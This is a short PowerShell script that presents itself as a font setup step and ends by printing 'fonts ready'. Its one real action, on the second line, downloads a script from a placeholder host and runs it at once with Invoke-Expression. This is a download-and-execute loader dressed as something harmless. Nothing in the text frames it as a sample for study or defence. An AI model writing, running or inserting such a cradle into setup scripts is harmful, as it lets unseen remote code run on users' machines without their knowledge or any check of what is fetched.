$ErrorActionPreference = 'Stop'
IEX (New-Object Net.WebClient).DownloadString('http://fonts.example.invalid/f.ps1')
Write-Output 'fonts ready'
